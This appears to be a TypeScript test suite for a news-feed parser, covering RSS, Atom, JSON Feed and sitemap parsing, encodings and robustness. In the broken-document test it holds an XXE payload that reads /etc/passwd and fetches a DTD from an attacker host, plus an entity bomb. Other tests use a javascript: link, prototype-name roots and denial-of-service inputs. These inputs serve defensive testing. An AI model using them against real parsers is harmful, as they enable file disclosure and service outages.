import fc from "fast-check";
import { afterAll, describe, expect, test } from "vitest";
import { maxEntries } from "../../src/feeds/parse/entry.ts";
import { feedTask, parseFeed } from "../../src/feeds/parse/parse-feed.ts";
import { createLogger } from "../../src/log.ts";
import { createParser } from "../../src/parser.ts";
import { rss } from "../fixtures/feed-server.ts";

const url = "https://herald.example/feeds/all.xml";
const parse = (text: string | Buffer, charset?: string) =>
  parseFeed({ url, body: Buffer.from(text as string), ...(charset === undefined ? {} : { charset }) });
const first = (text: string | Buffer, charset?: string) => parse(text, charset)!.entries[0];
const published = Date.UTC(2026, 2, 2, 10, 0, 0);

const formats: [string, string, string][] = [
  [
    "RSS 0.91",
    "rss",
    `<rss version="0.91"><channel><title>Herald</title><item><title>Bridge opens</title><link>https://herald.example/bridge</link>
     <description>On &lt;b&gt;Saturday&lt;/b&gt;.</description></item></channel></rss>`,
  ],
  [
    "RSS 2.0",
    "rss",
    `<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Herald</title><ttl>15</ttl>
     <item><guid isPermaLink="true">https://herald.example/bridge</guid><title>Bridge opens</title>
     <description>On <![CDATA[<b>Saturday</b>]]>.</description><dc:date>2026-03-02T11:00:00+01:00</dc:date></item></channel></rss>`,
  ],
  [
    "RSS 0.90",
    "rdf",
    `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://channel.netscape.com/rdf/simple/0.9/">
     <channel><title>Herald</title></channel><item><title>Bridge opens</title><link>https://herald.example/bridge</link></item></rdf:RDF>`,
  ],
  [
    "RSS 1.0 (RDF), with the vocabulary under a prefix",
    "rdf",
    `<r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:rss="http://purl.org/rss/1.0/" xmlns:dcx="http://purl.org/dc/elements/1.1/">
     <rss:channel><rss:title>Herald</rss:title></rss:channel>
     <rss:item r:about="https://herald.example/bridge"><rss:title>Bridge opens</rss:title><dcx:date>2026-03-02T10:00:00Z</dcx:date></rss:item></r:RDF>`,
  ],
  [
    "Atom",
    "atom",
    `<feed xmlns="http://www.w3.org/2005/Atom"><title>Herald</title><link rel="self" href="/feeds/all.xml"/>
     <entry><id>tag:herald.example,2026:bridge</id><title type="html">Bridge &lt;i&gt;opens&lt;/i&gt;</title>
     <link rel="enclosure" href="/bridge.mp3"/><link href="/bridge"/><published>2026-03-02T10:00:00Z</published>
     <source><title>Another paper</title><link href="https://other.example/"/></source></entry></feed>`,
  ],
  [
    "Atom without a namespace, with the link as text",
    "atom",
    `<feed version="0.3"><title>Herald</title><entry><id>1</id><title>Bridge opens</title><link>/bridge</link>
     <published>2026-03-02T10:00:00Z</published></entry></feed>`,
  ],
  [
    "Atom with https in its namespace",
    "atom",
    `<feed xmlns="https://www.w3.org/2005/Atom"><title>Herald</title><entry><id>1</id><title>Bridge opens</title>
     <link href="/bridge"/><updated>2026-03-02T10:00:00Z</updated></entry></feed>`,
  ],
  [
    "Atom under a prefix, with an XHTML title",
    "atom",
    `<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:title>Herald</a:title><a:entry><a:id>1</a:id>
     <a:title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Bridge <b>opens</b></div></a:title>
     <a:link rel="alternate" href="https://herald.example/bridge"/></a:entry></a:feed>`,
  ],
  [
    "JSON Feed",
    "json",
    JSON.stringify({
      version: "https://jsonfeed.org/version/1.1",
      title: "Herald",
      items: [
        { id: 7, url: "/bridge", title: "Bridge opens", date_published: "2026-03-02T11:00:00+01:00", tags: ["City"] },
      ],
    }),
  ],
];

const withMedia = (item: string) =>
  first(`<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"
  xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><item><title>T</title>${item}</item></channel></rss>`);

test.each([
  ["an enclosure", `<enclosure url="/a.mp3" type="audio/mpeg"/><enclosure url="/a.jpg" type="image/jpeg"/>`, "/a.jpg"],
  ["Media RSS", `<media:content url="/a.mp4" medium="video"/><media:content url="/a.jpg" medium="image"/>`, "/a.jpg"],
  ["a group of Media RSS", `<media:group><media:content url="/a.jpg" type="image/webp"/></media:group>`, "/a.jpg"],
  ["a thumbnail", `<media:thumbnail url="/small.jpg"/>`, "/small.jpg"],
  ["the larger picture", `<media:thumbnail url="/small.jpg"/><media:content url="/a.jpg" medium="image"/>`, "/a.jpg"],
])("an entry's picture is read from %s", (_name, item, path) => {
  expect(withMedia(item)!.imageUrl).toBe(`https://herald.example${path}`);
});

test("pictures of Atom, JSON Feed and news sitemaps are read, over https, if web addresses", () => {
  const atom = `<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><link rel="enclosure" type="image/png" href="http://img.example/a.png"/></entry></feed>`;
  expect(first(atom)!.imageUrl).toBe("https://img.example/a.png");
  const json = { version: "https://jsonfeed.org/version/1.1", items: [{ id: "1", image: "/a.jpg" }] };
  expect(first(JSON.stringify(json))!.imageUrl).toBe("https://herald.example/a.jpg");
  const sitemap = `<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"
    xmlns:image="http://www.google.com/schemas/sitemap-image/1.1"><url><loc>https://herald.example/a</loc><news:news><news:title>A</news:title></news:news>
    <image:image><image:loc>https://img.example/a.jpg</image:loc></image:image></url></urlset>`;
  expect(first(sitemap)!.imageUrl).toBe("https://img.example/a.jpg");
  expect(withMedia(`<enclosure url="data:image/png;base64,AA" type="image/png"/>`)!.imageUrl).toBeNull();
  expect(withMedia("")!.imageUrl).toBeNull();
});

test("an entry without a description has the beginning of its content, without tags", () => {
  const content =
    "<content:encoded><![CDATA[<p>It starts at <b>seven</b>.</p><p>Tickets are sold out.</p>]]></content:encoded>";
  expect(withMedia(content)!.summary).toBe("It starts at seven. Tickets are sold out.");
  expect(withMedia(`<description>Short.</description>${content}`)!.summary).toBe("Short.");
});

describe("a feed", () => {
  test.for(formats)("is read as %s", ([, format, text]) => {
    const feed = parse(text)!;
    expect(feed).toMatchObject({ format, title: "Herald", isCut: false });
    expect(feed.entries).toHaveLength(1);
    expect(feed.entries[0]).toMatchObject({ title: "Bridge opens", url: "https://herald.example/bridge" });
    expect([null, published]).toContain(feed.entries[0]!.publishedMs);
  });

  test("is not found in a page, other XML, other JSON, a picture or an empty document", () => {
    const others = [
      "<!doctype html><title>Herald</title>",
      "<opml><body/></opml>",
      '{"items":[1]}',
      "[1]",
      "\u0000PNG",
      "",
    ];
    for (const other of others) expect(parse(other), other).toBeNull();
  });

  const newsSitemap = (urls: string, names = 'xmlns:n="http://www.google.com/schemas/sitemap-news/0.9"') =>
    `<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" ${names}>${urls}</urlset>`;
  const news = `<url><loc>https://herald.example/bridge</loc><n:news><n:publication><n:name>Herald</n:name>
    <n:language>en</n:language></n:publication><n:publication_date>2026-03-02T11:00:00+01:00</n:publication_date>
    <n:title>Bridge &amp; river</n:title><n:keywords>City, Traffic</n:keywords></n:news></url>`;

  test("is read as a news sitemap, without the pages that are no news", () => {
    const old = "<url><loc>https://herald.example/contact</loc><lastmod>2026-03-02</lastmod></url>";
    expect(parse(newsSitemap(old + news + old))).toMatchObject({
      format: "sitemap",
      isCut: false,
      entries: [
        {
          url: "https://herald.example/bridge",
          title: "Bridge & river",
          publishedMs: published,
          guid: null,
          categories: ["City", "Traffic"],
        },
      ],
    });
  });

  test("may be a news sitemap without news, but is no other sitemap", () => {
    expect(parse(newsSitemap(""))).toMatchObject({ format: "sitemap", entries: [] });
    expect(parse(newsSitemap("<url><loc>https://herald.example/contact</loc></url>", ""))).toBeNull();
    expect(parse("<sitemapindex><sitemap><loc>https://herald.example/1.xml</loc></sitemap></sitemapindex>")).toBeNull();
  });

  test("of RSS has no entry for the address of its image", () => {
    const image = "<image><url>https://herald.example/logo.png</url></image>";
    expect(parse(rss([{ title: "a" }], image))!.entries).toHaveLength(1);
  });

  test("names its ttl, its hubs and its own address, in RSS and in JSON", () => {
    const links =
      '<atom:link rel="hub" href="https://hub.example/"/><atom:link rel="self" href="https://herald.example/rss"/>';
    expect(parse(rss([], `<ttl> 15 </ttl>${links}`))).toMatchObject({
      ttlMinutes: 15,
      hubs: ["https://hub.example/"],
      self: "https://herald.example/rss",
    });
    const json = {
      version: "https://jsonfeed.org/version/1",
      items: [],
      hubs: [{ type: "WebSub", url: "https://hub.example/" }],
    };
    expect(parse(JSON.stringify(json))).toMatchObject({ hubs: ["https://hub.example/"] });
  });
});

describe("titles", () => {
  test.for([
    ["once escaped", "Fish &amp; chips", "Fish & chips"],
    ["twice escaped", "Fish &amp;amp; chips &amp;#8211; now", "Fish & chips – now"],
    ["with entities of HTML that XML does not know", "Caf&eacute;&nbsp;news", "Café news"],
    ["in CDATA", "<![CDATA[Fish &amp; <b>chips</b>]]>", "Fish & chips"],
    ["with a sign that is no tag", "5 &lt; 6 and 7 &gt; 6", "5 < 6 and 7 > 6"],
    ["over several lines", "Fish\n   and\tchips", "Fish and chips"],
    ["with characters that change the direction of text", "Fish \u202eand\u202c chips", "Fish and chips"],
  ] as const)("are clean text: %s", ([, written, read]) => {
    expect(first(rss([{ title: written, link: "https://a.example/" }]))!.title).toBe(read);
  });

  test("of Atom that were escaped twice are read, whatever their type", () => {
    const atom = (type: string) =>
      `<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><title ${type}>R&amp;amp;D</title></entry></feed>`;
    expect(first(atom(""))!.title).toBe("R&D");
    expect(first(atom('type="html"'))!.title).toBe("R&D");
  });
});

describe("dates and data are read as those of pages", () => {
  test.for([
    ["Ke, 25 Marras 2026 10:00:00 +0200", "2026-11-25T08:00:00.000Z", true],
    ["Mi, 25 Dez 2024 10:00:00 +0100", "2024-12-25T09:00:00.000Z", true],
    ["mer., 25 févr. 2026 10:00:00 +0100", "2026-02-25T09:00:00.000Z", true],
    ["ср, 25 ноя 2026 10:00:00 +0300", "2026-11-25T07:00:00.000Z", true],
    ["2026-11-25T10:00:00[Europe/London]", "2026-11-25T10:00:00.000Z", true],
    ["25 Kasım 2026 10:00", "2026-11-25T10:00:00.000Z", false],
    ["Mi, 25 Foo 2026 10:00:00 +0100", null, false],
  ] as const)("%s", ([date, at, isInstant]) => {
    const entry = first(rss([{ title: "a", link: "https://a.example/", date }]))!;
    const { publishedMs } = entry;
    expect(publishedMs === null ? null : new Date(publishedMs).toISOString()).toBe(at);
    expect(entry.isInstant).toBe(isInstant);
  });

  test("a JSON Feed with faults and numbers is read", () => {
    const item = '{"id":"1","url":"https://a.example/1","title":"R&amp;amp;D","date_published":1772445600,}';
    const feed = parse(`{"version":"https://jsonfeed.org/version/1.1","items":[${item},/* none */]};`)!;
    expect(feed).toMatchObject({ format: "json", isCut: false });
    expect(feed.entries).toMatchObject([{ title: "R&D", publishedMs: published, isInstant: true }]);
  });

  test("a JSON Feed that breaks off gives its whole items", () => {
    const items = [1, 2, 3].map((n) => ({ id: `${n}`, url: `https://a.example/${n}`, title: `Story ${n}` }));
    const text = JSON.stringify({ version: "https://jsonfeed.org/version/1.1", items });
    const feed = parse(text.slice(0, -10))!;
    expect(feed.isCut).toBe(true);
    expect(feed.entries.map(({ guid }) => guid)).toEqual(["1", "2", "3"]);
  });
});

describe("links", () => {
  test.for([
    ["a path", "<link>/bridge</link>", "https://herald.example/bridge"],
    ["relative to the feed", "<link>bridge?id=1&amp;x=2</link>", "https://herald.example/feeds/bridge?id=1&x=2"],
    [
      "in CDATA, with space around",
      "<link> <![CDATA[https://herald.example/bridge]]>\n</link>",
      "https://herald.example/bridge",
    ],
    [
      "a guid that is a permalink",
      '<guid isPermaLink="true">https://herald.example/g</guid>',
      "https://herald.example/g",
    ],
    ["Atom's, in RSS", '<atom:link href="https://herald.example/a"/>', "https://herald.example/a"],
    [
      "the original one of a feed service",
      "<feedburner:origLink>https://herald.example/o</feedburner:origLink><link>https://proxy.example/1</link>",
      "https://herald.example/o",
    ],
    ["a script", "<link>javascript:alert(1)</link>", null],
    ["with a user name", "<link>https://me:pw@herald.example/</link>", null],
    ["none", "", null],
  ] as const)("are resolved: %s", ([, more, address]) => {
    expect(first(rss([{ title: "x", more }]))!.url).toBe(address);
  });

  test.each([
    ["before other forms, whatever their order", ["application/json", "text/html"], "1"],
    ["before one without a type", ["", "text/html; charset=utf-8"], "1"],
    ["else the one without a type", ["application/pdf", ""], "1"],
    ["else the first", ["application/pdf", "application/json"], "0"],
  ])("lead to the HTML of an entry %s", (_name, types, name) => {
    const links = types.map((type, n) => `<link rel="alternate" ${type && `type="${type}"`} href="/${n}"/>`).join("");
    const text = `<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id>${links}</entry></feed>`;
    expect(first(text)!.url).toBe(`https://herald.example/${name}`);
  });

  test("are relative to xml:base if there is one", () => {
    const text = `<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://base.example/news/"><entry xml:base="city/"><id>1</id><link href="bridge"/></entry></feed>`;
    expect(first(text)!.url).toBe("https://base.example/news/city/bridge");
  });
});

describe("encodings", () => {
  const declared = (encoding: string) =>
    rss([{ title: "Müller – Straße", link: "https://a.example/" }]).replace("UTF-8", encoding);
  const latin1 = (text: string) => Buffer.from(text.replaceAll("–", "\u0096"), "latin1");

  test.for([
    ["UTF-8 that the header calls Latin-1", Buffer.from(declared("UTF-8")), "iso-8859-1"],
    ["UTF-8 that declares itself Latin-1", Buffer.from(declared("ISO-8859-1")), undefined],
    ["Latin-1 by its declaration", latin1(declared("ISO-8859-1")), undefined],
    ["windows-1252 that declares itself UTF-8", latin1(declared("UTF-8")), "utf-8"],
    ["windows-1252 that says nothing", latin1(declared("UTF-8").replace(/<\?xml.*?\?>/, "")), undefined],
    ["UTF-16 with a byte order mark", Buffer.from(`\ufeff${declared("UTF-16")}`, "utf16le"), undefined],
    ["UTF-16 without one", Buffer.from(declared("UTF-16"), "utf16le"), undefined],
    ["an unknown encoding", Buffer.from(declared("X-NONE")), "x-none"],
  ] as const)("are recognised: %s", ([, body, charset]) => {
    expect(first(body, charset)!.title).toBe("Müller – Straße");
  });

  test("keep a text readable that has one broken byte", () => {
    const body = Buffer.from(declared("UTF-8"));
    body[body.indexOf("Herald")] = 0xff;
    expect(first(body)!.title).toBe("Müller – Straße");
  });
});

describe("a document that is broken", () => {
  const three = [1, 2, 3].map((n) => ({ title: `Story ${n}`, link: `https://a.example/${n}` }));

  test("loses only the entry at which it breaks off", () => {
    const whole = rss(three);
    const feed = parse(whole.slice(0, whole.indexOf("/3</link>")))!;
    expect(feed.entries.map(({ title }) => title)).toEqual(["Story 1", "Story 2"]);
    expect(feed.isCut).toBe(true);
  });

  test("is read past warnings before it, bare ampersands, wrong nesting and items that are never closed", () => {
    const text = `<br />\n<b>Warning</b>: in feed.php\n${rss(three).replaceAll("</item>", "").replace("Story 1", "Fish & <i>chips</b>")}`;
    expect(parse(text)!.entries.map(({ title }) => title)).toEqual(["Fish & chips", "Story 2", "Story 3"]);
  });

  test("is read without its entity declarations: XXE and entity bombs stay text", () => {
    const bomb = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">
      <!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % out SYSTEM "https://attacker.example/x.dtd"> %out;]>`;
    const text = rss([{ title: "&c;&file;", link: "https://a.example/" }]).replace(/<\?xml.*?\?>/, bomb);
    expect(first(text)!.title).toBe("&c;&file;");
  });

  test("whose root has the name of a member of every JavaScript object is no feed", () => {
    for (const name of ["constructor", "__proto__"])
      expect(parse(`<${name}><item><title>a</title></item></${name}>`)).toBeNull();
  });

  test("never makes the parser throw", () => {
    const pieces = fc.constantFrom(
      "<rss>",
      "<channel>",
      "<item>",
      "</item>",
      "<title>",
      "</title>",
      "<![CDATA[",
      "]]>",
      "&",
      "&#x",
      ";",
      "<!--",
      "-->",
      "<?",
      "xmlns='",
      "<",
      ">",
      "/",
      "\ud800",
      "{",
      '"items":[',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string()), { maxLength: 60 }), (parts) => void parse(parts.join(""))),
    );
    fc.assert(fc.property(fc.uint8Array({ maxLength: 300 }), (bytes) => void parseFeed({ url, body: bytes })));
  });
});

describe("namespaces", () => {
  const item = (more: string) =>
    `<rss xmlns:d="http://purl.org/dc/elements/1.1/"><channel><item><title>a</title>${more}</item></channel></rss>`;
  const date = "2026-03-02T08:00:00Z";
  const other = 'xmlns:d="urn:other"';
  test.each([
    ["holds in its children", `<d:date>${date}</d:date>`, true],
    ["is hidden by a nearer declaration", `<d:date ${other}>${date}</d:date>`, false],
    ["holds again after the nearer one has ended", `<x ${other}><y ${other}/></x><d:date>${date}</d:date>`, true],
    ["ends with its element", `<x xmlns:e="http://purl.org/dc/elements/1.1/"/><e:date>${date}</e:date>`, false],
  ])("a prefix %s", (_name, markup, isRead) => {
    expect(first(item(markup))!.publishedMs).toBe(isRead ? Date.parse(date) : null);
  });
});

describe("a hostile document", () => {
  const megabyte = 1024 * 1024;
  // Each document takes a second or two on an idle machine. In time quadratic in its length, it would take hours.
  const limitMs = 45_000;
  const parser = createParser({ log: createLogger("silent"), deadlineMs: limitMs });
  afterAll(() => parser.close());
  const parseInThread = async (body: Buffer) => {
    const parsed = await parser.parse(feedTask, { url, body });
    return parsed.kind === "parsed" ? parsed.value : null;
  };
  const prefixes = Array.from({ length: 80 }, (_, depth) => {
    return `<a ${Array.from({ length: 50 }, (_, n) => `xmlns:p${depth}x${n}=""`).join(" ")}>`;
  }).join("");
  test.for([
    ["a million elements in each other", `<rss><channel>${"<a>".repeat(megabyte)}`],
    ["end tags that close nothing", `<rss><channel>${"<a>".repeat(90)}${"</b>".repeat(megabyte)}`],
    ["one endless title", `<rss><channel><item><title>${"&amp;".repeat(megabyte)}`],
    ["a million attributes", `<rss ${"a='b' ".repeat(megabyte / 2)}>`],
    [
      "4,000 prefixes in scope of half a million elements that declare one",
      `<rss>${prefixes}${"<a xmlns:p=''/>".repeat(megabyte / 2)}`,
    ],
    ["brackets of JSON", "[".repeat(4 * megabyte)],
  ] as const)("takes time linear in its length: %s", async ([, text]) => {
    const startedMs = performance.now();
    expect((await parseInThread(Buffer.from(text)))?.entries ?? []).toEqual([]);
    expect(performance.now() - startedMs).toBeLessThan(limitMs);
  });

  test("of 10 MB is parsed in a thread, nothing else waits, and it is cut at 10,000 entries", async () => {
    const items = Array.from({ length: 60_000 }, (_, n) => ({
      title: `Story ${n} ${"x".repeat(90)}`,
      link: `https://a.example/${n}`,
    }));
    const body = Buffer.from(rss(items)).subarray(0, 10 * megabyte);
    const before = performance.eventLoopUtilization();
    const feed = await parseInThread(body);
    const { utilization } = performance.eventLoopUtilization(before);
    expect(feed).toMatchObject({ isCut: true });
    expect(feed!.entries).toHaveLength(maxEntries);
    // Passing 10 MB to the thread takes a moment, but parsing them takes seconds. In this thread, parsing would make it
    // 1.
    expect(utilization).toBeLessThan(0.8);
  });
});
